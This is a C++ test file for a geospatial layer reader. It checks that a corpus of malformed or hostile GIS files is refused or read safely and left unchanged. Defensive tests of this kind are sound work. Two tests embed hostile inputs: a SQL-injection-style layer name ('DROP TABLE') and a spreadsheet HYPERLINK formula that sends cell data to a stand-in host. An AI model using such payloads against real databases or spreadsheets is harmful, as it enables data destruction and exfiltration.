#include <sys/stat.h>

#include <algorithm>
#include <functional>
#include <map>
#include <regex>

#include "src/io/layer_file.hpp"
#include "src/io/startup.hpp"
#include "tests/catch.hpp"
#include "tests/io/hostile.hpp"
#include "tests/io/layer_text.hpp"

using namespace tasi;
using namespace tasi::testing;

namespace {

using Use = std::function<void(io::Session&, const std::string&)>;

/// What a file is for decides how it is used after reading.
const std::map<std::string, Use>& uses()
{
    static const std::map<std::string, Use> table{
        {"shorelines",
         [](io::Session& s, const std::string& f) {
             io::shorelines_from(s, io::read_layer(s, {f, {}, {}}), f, {});
         }},
        {"transects",
         [](io::Session& s, const std::string& f) {
             io::transects_from(s, io::read_layer(s, {f, {}, {}}), f, {}, false);
         }},
        {"series",
         [](io::Session& s, const std::string& f) {
             io::positions_from(s, io::read_layer(s, {f, {}, {}}), f, {});
         }},
        {"settlements",
         [](io::Session& s, const std::string& f) {
             io::read_layer(s, {f, {}, {}});
         }},
        {"baseline",
         [](io::Session& s, const std::string& f) {
             io::read_layer(s, {f, {}, {}});
         }},
    };
    return table;
}

/// Refusals that reading alone must bring; the others of the corpus need the command that follows.
const std::vector<std::string>& refused_on_reading()
{
    static const std::vector<std::string> names{
        "geometry/base_huge.gpkg",
        "geometry/base_inf.gpkg",
        "geometry/transects_bad.gpkg",
        "geometry/nan.geojson",
        "geometry/deep.geojson",
        "shp/no_prj.shp",
        "shp/no_shx.shp",
        "shp/dbf_short.shp",
        "gpkg/trigger.gpkg",
        "gpkg/srs_mismatch.gpkg",
        "gpkg/not_gpkg.gpkg",
        "gpkg/truncated.gpkg",
        "gpkg/two_layers.gpkg",
        "series/bad_feb30.csv",
        "series/mixed_formats.csv",
        "series/year_zero.csv",
        "series/zero_unc.csv",
        "series/text_na.csv",
        "series/thousands.csv",
        "series/trailing.csv",
        "series/bad_utf8.csv",
        "series/unclosed_quote.csv",
    };
    return names;
}

bool is_layer(const std::string& name)
{
    for (const char* suffix : {".gpkg", ".shp", ".geojson", ".csv"})
        if (name.ends_with(suffix)) return true;
    return false;
}

std::int64_t changed_at(const std::string& path)
{
    struct stat status {};
    REQUIRE(stat(path.c_str(), &status) == 0);
    return status.st_mtim.tv_sec * 1'000'000'000LL + status.st_mtim.tv_nsec;
}

}  // namespace

TEST_CASE("every layer of the hostile corpus is refused or read as its manifest says, and left as it was", "[hostile-layers]")
{
    const std::filesystem::path corpus = hostile_corpus();
    if (corpus.empty()) return;
    io::start_up();
    std::size_t tried = 0, refused = 0;
    const nlohmann::json manifest = read_json(corpus / "manifest.json");
    for (const auto& item : manifest.at("items")) {
        const std::string name = item.at("file"), role = item.at("role");
        if (!uses().contains(role) || !is_layer(name)) continue;
        CAPTURE(name);
        ++tried;
        const std::string path = (corpus / name).string();
        const auto before = changed_at(path), folder_before = changed_at(std::filesystem::path(path).parent_path().string());
        io::Session session;
        const std::string result = refusal([&] { uses().at(role)(session, path); });
        CAPTURE(result);
        const bool must_refuse = std::find(refused_on_reading().begin(), refused_on_reading().end(), name) != refused_on_reading().end();
        CHECK((result != "done") == must_refuse);
        if (must_refuse) {
            ++refused;
            const std::vector<int> exits = item.at("expect").at("exit");
            CHECK(std::find(exits.begin(), exits.end(), result[0] - '0') != exits.end());
            CHECK(std::regex_search(result, std::regex(item.at("expect").at("message").get<std::string>())));
        }
        CHECK(changed_at(path) == before);
        CHECK(changed_at(std::filesystem::path(path).parent_path().string()) == folder_before);
    }
    CHECK(tried > 50);
    CHECK(refused == refused_on_reading().size());
}

TEST_CASE("a spatial index that leaves out features hides nothing", "[hostile-layers]")
{
    const std::filesystem::path corpus = hostile_corpus();
    if (corpus.empty()) return;
    io::start_up();
    io::Session session;
    const Layer lying = io::read_layer(session, {(corpus / "gpkg/rtree_lies.gpkg").string(), {}, {}});
    const Layer control = io::read_layer(session, {(corpus / "control/shorelines.gpkg").string(), {}, {}});
    REQUIRE(lying.features.size() == control.features.size());
    for (std::size_t i = 0; i < lying.features.size(); ++i) {
        CHECK(lying.features[i].geometry.lines == control.features[i].geometry.lines);
        CHECK(lying.features[i].values == control.features[i].values);
    }
}

TEST_CASE("Z and M are dropped: a baseline with them is the baseline without", "[hostile-layers]")
{
    const std::filesystem::path corpus = hostile_corpus();
    if (corpus.empty()) return;
    io::start_up();
    io::Session session;
    const Layer layer = io::read_layer(session, {(corpus / "geometry/base_3d.gpkg").string(), {}, {}});
    const Layer control = io::read_layer(session, {(corpus / "control/baseline.gpkg").string(), {}, {}});
    CHECK(layer.features.at(0).geometry.lines == control.features.at(0).geometry.lines);
}

TEST_CASE("an old crs member of GeoJSON is honoured; an assumed CRS serves only where there is none", "[hostile-layers]")
{
    const std::filesystem::path corpus = hostile_corpus();
    if (corpus.empty()) return;
    io::start_up();
    io::Session session;
    Crs assumed;
    assumed.wkt = "assumed";
    CHECK(io::read_layer(session, {(corpus / "geometry/crs_member.geojson").string(), {}, assumed}).crs.name == "EPSG:32751");
    CHECK(io::read_layer(session, {(corpus / "control/shorelines.gpkg").string(), {}, assumed}).crs.name == "EPSG:32751");
    assumed.projected = true;
    CHECK(io::read_layer(session, {(corpus / "shp/no_prj.shp").string(), {}, assumed}).crs == assumed);
}

TEST_CASE("a layer is chosen by name; a wrong name lists those there are", "[hostile-layers]")
{
    const std::filesystem::path corpus = hostile_corpus();
    if (corpus.empty()) return;
    io::start_up();
    io::Session session;
    const std::string file = (corpus / "gpkg/two_layers.gpkg").string();
    CHECK(io::read_layer(session, {file, "shorelines_old", {}}).name == "shorelines_old");
    const std::string message = refusal([&] { io::read_layer(session, {file, "shore'); DROP TABLE x", {}}); });
    CHECK(contains(message, "2 LAYER has no layer 'shore'); DROP TABLE x'; choose one with --layer: shorelines, shorelines_old"));
}

TEST_CASE("names with markup, formulas and control characters come through unchanged", "[hostile-layers]")
{
    const std::filesystem::path corpus = hostile_corpus();
    if (corpus.empty()) return;
    io::start_up();
    io::Session session;
    const Layer layer = io::read_layer(session, {(corpus / "inject/settlements_names.gpkg").string(), {}, {}});
    CHECK(layer.features.size() == 20);
    const auto name = static_cast<std::size_t>(layer.field("name"));
    CHECK(text_of(layer.features.at(0).values.at(name)) == "=HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1,\"Dili\")");
}
